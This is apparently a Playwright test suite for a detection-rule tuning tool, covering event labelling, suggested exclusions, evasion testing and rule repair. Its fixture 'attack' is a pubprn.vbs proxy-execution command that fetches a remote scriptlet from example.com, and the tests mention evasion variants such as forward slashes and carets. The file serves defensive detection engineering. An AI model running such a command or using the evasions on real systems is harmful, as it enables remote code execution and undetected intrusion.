// Advice: labels, and what to do about a verdict.
import assert from 'node:assert/strict';
import { read } from './editor.mjs';
import { journey } from './journey.mjs';
import { choose, evasion, events, headline, label, openRules, pane, paste } from './states.mjs';

const attack = 'cscript.exe //b C:\\Windows\\System32\\Printing_Admin_Scripts\\en-US\\pubprn.vbs 127.0.0.1 script:https://example.com/a.sct';
const audit = 'findstr /n /i "script:" C:\\Windows\\System32\\Printing_Admin_Scripts\\en-US\\pubprn.vbs';
const row = (page, text) => events(page).getByRole('row').filter({ hasText: text }).first();
const labelled = (page, name) => page.getByRole('group', { name: 'Show labelled events' }).getByRole('button', { name });

journey('labels say where verdicts are not what they should be, and survive edits and a reload', async (page) => {
  await paste(page, `${attack}\n${audit}\nipconfig /all\n`);
  await headline(page, '2 of 3 events match');
  await label(page, '127.0.0.1', 'malicious');
  await label(page, 'findstr', 'benign');
  await row(page, 'findstr').getByText('false alarm').waitFor();
  await labelled(page, '1 malicious').waitFor();
  await labelled(page, '1 unexpected').waitFor();
  await paste(page, `hostname\nwhoami /all\n${attack}\n${audit}\n`);
  await headline(page, '2 of 4 events match');
  await row(page, 'findstr').getByText('false alarm').waitFor();
  await page.reload();
  await row(page, '127.0.0.1').getByRole('button', { name: 'Line 3 is malicious', pressed: true }).waitFor();
  await labelled(page, '1 unexpected').click();
  await page.waitForFunction(() => document.querySelectorAll('.row').length === 1);
  await row(page, 'findstr').waitFor();
});

journey('M and B label the selected event, and the menu labels all shown', async (page) => {
  await paste(page, `${attack}\n${audit}\nipconfig /all\n`);
  await events(page).focus();
  await page.keyboard.press('Home');
  await page.keyboard.press('m');
  await row(page, '127.0.0.1').getByRole('button', { name: 'malicious', pressed: true }).waitFor();
  await page.keyboard.press('m');
  await row(page, '127.0.0.1').getByRole('button', { name: 'malicious', pressed: false }).waitFor();
  await page.getByLabel('Find events by text').fill('pubprn');
  const menu = page.getByLabel('Label all shown');
  await menu.selectOption('The 2 shown: benign');
  await labelled(page, '2 benign').waitFor();
  assert.equal(await menu.inputValue(), 'Label all…');
  await menu.selectOption('Clear all labels');
  await page.getByText('Label events (M, B)').waitFor();
  await page.getByRole('button', { name: 'Undo' }).click();
  await labelled(page, '2 benign').waitFor();
});

const add = (page, value) => page.getByRole('button', { name: `Add the exclusion of ${value}`, exact: true });
const figure = (page, name) => page.getByRole('dialog').locator('.figures__one', { hasText: name }).locator('dd').innerText();

/** Labels an attack and an audit that the same rule matches, and asks what would quiet the audit. */
async function suggest(page) {
  await paste(page, `${attack}\n${audit}\nipconfig /all\n`);
  await pane(page, 'Verdicts');
  await headline(page, '2 of 3 events match');
  await label(page, '127.0.0.1', 'malicious');
  await label(page, 'findstr', 'benign');
  await choose(page, 'findstr');
  await page.getByRole('button', { name: 'Suggest from labelled events' }).click();
  await page.getByText('Exclusions, best first').waitFor();
}

journey('an exclusion is suggested, shown in the rule, taken, and undone', async (page) => {
  await suggest(page);
  const candidate = page.locator('.candidate').filter({ has: add(page, 'Image ends with \\findstr.exe') });
  assert.match(await candidate.innerText(), /removes 1 of 1 benign:\s+line 2\s+keeps 1 of 1 malicious/);
  await add(page, 'Image ends with \\findstr.exe').click();
  const dialog = page.getByRole('dialog', { name: 'Exclusion for “Pubprn.vbs Proxy Execution”' });
  await dialog.getByRole('button', { name: 'Use a changed copy' }).waitFor();
  assert.deepEqual(
    [await figure(page, 'matches now'), await figure(page, 'matches then'), await figure(page, 'malicious lost')],
    ['2', '1', '0'],
  );
  const text = dialog.getByRole('region', { name: 'Text of the changed rule' });
  assert.match((await text.locator('ins').allInnerTexts()).join('\n'), /filter_main_[\s\S]*findstr\.exe/);
  await dialog.getByRole('radio', { name: /A filter beside it/ }).check();
  await text.getByText('filter:').waitFor();
  await dialog.getByRole('radio', { name: /filter_main/ }).check();
  await text.getByText('condition: selection').waitFor();
  await dialog.getByRole('button', { name: 'Use a changed copy' }).click();
  await headline(page, '1 of 3 events matches');
  await row(page, '127.0.0.1').getByText('Match', { exact: true }).waitFor();
  await row(page, 'findstr').getByText('No match').waitFor();
  await page.getByRole('button', { name: 'Undo' }).click();
  await headline(page, '2 of 3 events match');
  await openRules(page);
  await page.getByText('19 of 19 rules on').waitFor();
});

journey('a filter file quiets the rule and leaves its text alone', async (page) => {
  await suggest(page);
  await add(page, 'Image ends with \\findstr.exe').click();
  await page.getByRole('radio', { name: /A filter beside it/ }).check();
  await page.getByRole('button', { name: 'Add the filter to my rules' }).click();
  await headline(page, '1 of 3 events matches');
  await openRules(page);
  await page.getByText('20 of 20 rules on').waitFor();
});

journey('a rule of one’s own is changed in place, in its own language', async (page) => {
  await openRules(page);
  await page.getByLabel('New rule from a template').selectOption('Elastic EQL');
  await page.getByText('No problems found.').waitFor();
  await page.getByRole('link', { name: 'Playground', exact: true }).click();
  await paste(page, 'cscript.exe //nologo D:\\Jobs\\nightly.vbs\ncscript.exe //b C:\\Users\\Public\\a.vbs\n');
  await headline(page, 'All 2 events match');
  await label(page, 'nightly', 'benign');
  await label(page, 'Public', 'malicious');
  await choose(page, 'nightly');
  await page.getByRole('button', { name: 'Suggest from labelled events' }).first().click();
  // Until then, what stands first is what other rules exclude.
  await page.getByText('Exclusions, best first').waitFor();
  await page.getByRole('button', { name: /^Add the exclusion of/ }).first().click();
  await page.getByRole('button', { name: 'Change my rule' }).click();
  await headline(page, '1 of 2 events matches');
  await row(page, 'nightly').getByText('No match').waitFor();
  await openRules(page);
  await page.getByRole('link', { name: /Untitled rule|My rule/ }).first().click();
  assert.match(await read(page.getByLabel('Text of your rule')), /and not/);
});

journey('without labels, the note says what to do', async (page) => {
  await paste(page, `${attack}\n`);
  await headline(page, 'The event matches');
  await page.getByRole('button', { name: 'Suggest from labelled events' }).click();
  await page.getByText('No event is labelled.').waitFor();
  // The list of what other rules exclude is still there.
  await add(page, 'CommandLine contains 127.0.0.1').waitFor();
});

journey('the changed rule is copied and downloaded', async (page) => {
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
  await suggest(page);
  await add(page, 'Image ends with \\findstr.exe').click();
  const text = page.getByRole('region', { name: 'Text of the changed rule' });
  await text.waitFor();
  await page.getByRole('button', { name: 'Copy', exact: true }).click();
  await page.getByText('Copied.').waitFor();
  assert.match(await page.evaluate(() => navigator.clipboard.readText()), /^title: Pubprn\.vbs[\s\S]*findstr/);
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Download' }).click();
  assert.equal((await download).suggestedFilename(), 'pubprn_vbs_proxy_execution.yml');
});

journey('the dialog of a change keeps the keyboard, and gives it back', async (page) => {
  await suggest(page);
  await add(page, 'Image ends with \\findstr.exe').focus();
  await page.keyboard.press('Enter');
  await page.getByRole('button', { name: 'Use a changed copy' }).waitFor();
  assert.ok(await page.evaluate(() => document.activeElement.closest('dialog') !== null));
  await page.keyboard.press('Escape');
  await page.getByRole('dialog').waitFor({ state: 'detached' });
  assert.equal(await page.evaluate(() => document.activeElement.textContent), 'Add…');
});

journey('the matrix says what evades a rule, with the line and the predicate that broke', async (page) => {
  await evasion(page);
  const scores = page.getByRole('list', { name: 'How many changed lines each rule still matches' });
  assert.match(await scores.innerText(), /survives\s+\d+ of \d+\s+Pubprn\.vbs Proxy Execution/);
  const matrix = page.getByRole('region', { name: 'Changes and rules' });
  await matrix.getByRole('row', { name: /Carets.*changes nothing/ }).getByRole('button').click();
  await matrix.getByText('Typed', { exact: true }).waitFor();
  const evades = matrix.getByRole('row', { name: /evades/ }).first();
  await evades.getByRole('button').click();
  await matrix.getByText('Broke in').waitFor();
  await matrix.getByRole('link', { name: 'in the rule' }).first().waitFor();
  // Another event has a matrix of its own.
  await choose(page, 'manage-bde');
  await page.getByRole('button', { name: 'Try to evade' }).waitFor();
});

journey('a repair is shown, taken, and withstands the change', async (page) => {
  await paste(page, `${attack}\n`);
  await page.getByRole('button', { name: 'Try to evade' }).click();
  const row = page.getByRole('row', { name: /^Forward slashes in paths/ });
  await row.getByText('evades').waitFor();
  await row.getByRole('button').click();
  await page.getByRole('button', { name: /^Preview the repair/ }).first().click();
  const dialog = page.getByRole('dialog');
  assert.equal(await figure(page, 'matches then'), '1');
  assert.ok((await dialog.locator('ins').count()) > 0);
  await dialog.getByRole('button', { name: 'Use a changed copy' }).click();
  await page.getByRole('button', { name: 'Try to evade' }).click();
  await row.getByText('survives').waitFor();
});

journey('each card says what would flip it, with the way to the rule', async (page) => {
  await paste(page, 'cscript.exe C:\\Windows\\System32\\Printing_Admin_Scripts\\en-US\\pubprn.vbs print01 "LDAP://OU=x"\n');
  await headline(page, 'The event does not match');
  const near = page.getByRole('article').filter({ has: page.getByRole('heading', { name: 'Pubprn.vbs Proxy Execution' }) });
  assert.match(await near.innerText(), /To match:\s+CommandLine would have to contain “script:”/);
  await near.getByRole('link', { name: 'in the rule' }).click();
  assert.equal(await page.locator('#rule-target').innerText(), "'script:'");
});

journey('advice fits a screen of 320 pixels', async (page) => {
  const fits = async () => assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth));
  await suggest(page);
  await fits();
  await add(page, 'Image ends with \\findstr.exe').click();
  await page.getByRole('button', { name: 'Use a changed copy' }).waitFor();
  await fits();
  await page.keyboard.press('Escape');
  await page.getByRole('button', { name: 'Try to evade' }).click();
  await page.getByRole('region', { name: 'Changes and rules' }).waitFor();
  await fits();
}, { viewport: { width: 320, height: 640 } });
